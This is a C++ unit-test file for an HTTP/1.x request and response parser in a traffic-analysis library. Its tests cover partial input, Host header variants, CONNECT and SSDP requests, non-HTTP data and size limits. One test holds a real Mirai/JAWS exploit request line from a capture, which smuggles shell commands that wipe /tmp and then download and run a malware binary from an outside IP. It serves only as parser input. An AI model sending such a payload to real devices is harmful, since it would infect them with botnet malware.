// HTTP/1.x request and response parsing: real requests cut from the captures, partial input,
// tolerated oddities and what is not HTTP.
#include "l7/http.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "hex.h"

namespace fk::l7 {
namespace {

using test::bytes;

// A request growing a byte at a time, each call resuming where the one before stopped: the
// lines before resume_at are not read again, and the result is the whole parse's.
TEST(Http, ResumesAtTheFirstIncompleteHeaderLine) {
    const std::string whole = "POST /x HTTP/1.1\r\nA: 1\r\nBb: 22\r\nhost: h.example\r\n\r\n";
    const size_t host_line = whole.find("host");
    HttpRequest req;
    size_t resume = 0;
    for (size_t n = 1; n < host_line + 17; ++n) {
        ASSERT_EQ(parse_http_request(bytes(whole).first(n), req, resume), Status::need_more) << n;
        resume = req.resume_at;
    }
    EXPECT_EQ(resume, host_line);
    ASSERT_EQ(parse_http_request(bytes(whole).first(host_line + 17), req, resume), Status::done);
    EXPECT_EQ(req.method, "POST");
    EXPECT_EQ(req.target, "/x");
    EXPECT_EQ(req.host, "h.example");
    // Resumed past the Host line, the parser sees no Host: resume_at is only ever where an
    // incomplete line starts.
    ASSERT_EQ(parse_http_request(bytes(whole), req, whole.size() - 2), Status::done);
    EXPECT_EQ(req.host, "");
}

TEST(Http, RequestSplitOverTwoSegments) {
    // pcap/http/http-lines-split.pcap: frame 4 carries the request line and Host, frame 6
    // the rest of the header section.
    auto first = test::from_hex(
        "474554202f20485454502f312e310d0a486f73743a20746f6e692e6c616e3a33313333370d0a");
    auto second = test::from_hex("557365722d4167656e743a2075636c69656e742d66657463680d0a0d0a");
    HttpRequest req;
    // Any prefix that stops before the Host line ends asks for more.
    for (size_t cut = 0; cut < first.size(); ++cut) {
        ASSERT_EQ(parse_http_request(std::span(first.data(), cut), req), Status::need_more) << cut;
        EXPECT_EQ(req.needed, cut + 1);
    }
    ASSERT_EQ(parse_http_request(first, req), Status::done);
    EXPECT_EQ(req.method, "GET");
    EXPECT_EQ(req.target, "/");
    EXPECT_EQ(req.host, "toni.lan:31337");
    EXPECT_EQ(req.version_minor, 1);
    std::vector<uint8_t> whole = first;
    whole.insert(whole.end(), second.begin(), second.end());
    ASSERT_EQ(parse_http_request(whole, req), Status::done);
    EXPECT_EQ(req.host, "toni.lan:31337");
}

TEST(Http, HostHeaderForms) {
    HttpRequest req;
    ASSERT_EQ(parse_http_request(bytes("POST /a HTTP/1.0\r\nAccept: */*\r\nhOsT:\t example.org "
                                       "\t\r\nHost: second.example\r\n\r\n"),
                                 req),
              Status::done);
    EXPECT_EQ(req.method, "POST");
    EXPECT_EQ(req.host, "example.org");
    EXPECT_EQ(req.version_minor, 0);
    // Bare LF line ends, and no Host at all.
    ASSERT_EQ(parse_http_request(bytes("GET / HTTP/1.0\nUser-Agent: x\n\n"), req), Status::done);
    EXPECT_EQ(req.host, "");
    // "Hostname:" is not Host.
    ASSERT_EQ(parse_http_request(bytes("GET / HTTP/1.1\r\nHostname: a\r\n\r\n"), req),
              Status::done);
    EXPECT_EQ(req.host, "");
}

TEST(Http, ConnectSsdpAndSpacesInTheTarget) {
    HttpRequest req;
    ASSERT_EQ(parse_http_request(bytes("CONNECT www.example.com:443 HTTP/1.1\r\nHost: "
                                       "www.example.com:443\r\n\r\n"),
                                 req),
              Status::done);
    EXPECT_EQ(req.method, "CONNECT");
    EXPECT_EQ(req.target, "www.example.com:443");
    ASSERT_EQ(parse_http_request(bytes("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n"
                                       "MAN: \"ssdp:discover\"\r\n\r\n"),
                                 req),
              Status::done);
    EXPECT_EQ(req.method, "M-SEARCH");
    EXPECT_EQ(req.host, "239.255.255.250:1900");
    // The request line of pcap/suricata-verify/mirai-jaws.pcap frame 14: the target holds a
    // space; like tshark, the target ends there and the version ends the line.
    ASSERT_EQ(parse_http_request(bytes("GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/"
                                       ".s4y/arm;sh+/tmp/arm HTTP/1.1\r\nHost: 127.0.0.1:80\r\n"),
                                 req),
              Status::done);
    EXPECT_EQ(req.target, "/shell?cd+/tmp;rm+-rf+*;wget+");
    EXPECT_EQ(req.host, "127.0.0.1:80");
}

TEST(Http, NotHttp) {
    HttpRequest req;
    for (std::string_view s : {"get / HTTP/1.1\r\n", "GET / HTTP/2.0\r\n", "GET /\r\n",
                               "GET  HTTP/1.1\r\n", "GET / HTTP/1.1 x\r\n", "\x16\x03\x01\x02",
                               "GET / HTTP/1.1\x01\r\n", "SSH-2.0-OpenSSH_8.9\r\n", " GET /"}) {
        EXPECT_EQ(parse_http_request(bytes(s), req), Status::not_this) << s;
    }
    EXPECT_FALSE(looks_like_http_request(bytes("\x16\x03\x01")));
    EXPECT_FALSE(looks_like_http_request(bytes("GET")));
    EXPECT_TRUE(looks_like_http_request(bytes("GET ")));
    EXPECT_TRUE(looks_like_http_request(bytes("PROPFIND /x")));
    EXPECT_FALSE(looks_like_http_request(bytes(std::string(30, 'A') + " /")));
}

TEST(Http, Limits) {
    HttpRequest req;
    // A header section longer than the limit, Host never seen: reported without Host.
    std::string big = "GET / HTTP/1.1\r\n";
    while (big.size() < kMaxHttpHeader + 100) big += "X-Filler: 0123456789abcdef\r\n";
    ASSERT_EQ(parse_http_request(bytes(big), req), Status::done);
    EXPECT_EQ(req.method, "GET");
    EXPECT_EQ(req.host, "");
    // A request line longer than the limit.
    std::string line = "GET /" + std::string(kMaxHttpHeader, 'a');
    EXPECT_EQ(parse_http_request(bytes(line), req), Status::invalid);
}

TEST(Http, Responses) {
    HttpResponse resp;
    ASSERT_EQ(parse_http_response(bytes("HTTP/1.0 200 OK\r\nServer: x\r\n"), resp), Status::done);
    EXPECT_EQ(resp.status, 200);
    EXPECT_EQ(resp.version_minor, 0);
    ASSERT_EQ(parse_http_response(bytes("HTTP/1.1 404\r\n"), resp), Status::done);
    EXPECT_EQ(resp.status, 404);
    ASSERT_EQ(parse_http_response(bytes("HTTP/1.1 101\n"), resp), Status::done);
    for (std::string_view partial : {"", "H", "HTTP/1.", "HTTP/1.1 20", "HTTP/1.1 204"}) {
        EXPECT_EQ(parse_http_response(bytes(partial), resp), Status::need_more) << partial;
        EXPECT_EQ(resp.needed, 13u);
    }
    for (std::string_view bad :
         {"HTTP/2 200 OK\r\n", "HTTP/1.1 2x0 OK\r\n", "HTTP/1.1 099 A\r\n", "HTTP/1.1 2000\r\n",
          "http/1.1 200 OK\r\n", "RTSP/1.0 200 OK\r\n"}) {
        EXPECT_EQ(parse_http_response(bytes(bad), resp), Status::not_this) << bad;
    }
}

}  // namespace
}  // namespace fk::l7
